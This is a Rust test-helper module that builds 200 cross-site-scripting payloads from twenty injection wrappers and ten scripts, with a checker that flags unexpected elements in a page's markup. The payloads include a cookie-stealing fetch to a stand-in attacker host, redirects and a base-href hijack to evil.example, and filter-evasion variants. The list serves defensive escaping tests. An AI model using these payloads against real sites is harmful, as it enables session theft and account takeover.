//! What pages are made of, and scripts that strangers would like to have in them.

/// The elements of our pages.
const OWN: &str = "a b bdi blockquote body br button div fieldset footer form h1 h2 head header html img input label legend li link main meta nav ol p script section textarea title ul";
/// Where the addresses of our pages lead.
const PLACES: [&str; 4] = ["/", "#", "https://", "data:image/svg+xml,"];
/// What a stranger would put around a script; `{}` stands for it.
const AROUND: [&str; 20] = [
    "<script>{}</script>",
    "<ScRiPt src=//evil.example>{}</sCrIpT>",
    "\"><script>{}</script>",
    "'></textarea><script>{}</script>",
    "</li></ol></div><script>{}</script>",
    "<!--><script>{}</script>-->",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "\" autofocus onfocus=\"{}",
    "\"onmouseover='{}'",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={}&gt;\">",
    "<iframe srcdoc=\"&lt;script&gt;{}&lt;/script&gt;\">",
    "<a href=\"javascript:{}\">ici</a>",
    "<details open ontoggle={}>",
    "<base href=//evil.example><b>{}</b>",
    "<meta http-equiv=refresh content=\";url=javascript:{}\">",
    "<form action=//evil.example><button>{}</button></form>",
    "<object data=\"data:text/html,<script>{}</script>\">",
];
/// The scripts themselves: without digits, so that none is taken for a secret and kept from being read.
const SCRIPTS: [&str; 10] = [
    "alert(document.domain)",
    "alert`a`",
    "top['al'+'ert'](name)",
    "window.onload=alert",
    "&lpar;alert&rpar;&lpar;name&rpar;",
    "eval(name)",
    "fetch('//evil.example/'+document.cookie)",
    "location='//evil.example'",
    "document.title='evil'",
    "setTimeout('alert(name)')",
];

/// Two hundred texts that would be scripts in a page that took them for markup.
pub(crate) fn payloads() -> Vec<String> {
    let of = |around: &&str| SCRIPTS.map(|script| around.replace("{}", script));
    AROUND.iter().flat_map(of).collect()
}

/// The elements of a page that are none of ours: with another name, a handler, or an address elsewhere.
pub(crate) fn foreign(page: &str) -> Vec<&str> {
    let tags = page.split('<').skip(1);
    let tags = tags.map(|tag| tag.split('>').next().unwrap_or_default());
    tags.filter(|tag| !is_own(tag)).collect()
}

fn is_own(tag: &str) -> bool {
    if tag == "!DOCTYPE html" {
        return true;
    }
    let name = tag.trim_start_matches('/').split(' ').next();
    let is_known = OWN.split(' ').any(|own| Some(own) == name);
    // Each value stands between two quotation marks, its name before them; other names have none.
    let pieces: Vec<&str> = tag.split('"').collect();
    let is_tidy = pieces.chunks(2).all(|pair| {
        let (before, name) = pair[0].rsplit_once(' ').unwrap_or(("", pair[0]));
        let is_own = match (name, pair.get(1)) {
            ("href=" | "src=" | "action=", Some(value)) => {
                PLACES.iter().any(|place| value.starts_with(place)) && !value.starts_with("//")
            }
            (name, Some(_)) => name.ends_with('=') && !name.starts_with("on"),
            (name, None) => !name.contains('='),
        };
        is_own && !before.contains('=')
    });
    // A script is a file.
    is_known && is_tidy && tag != "script"
}
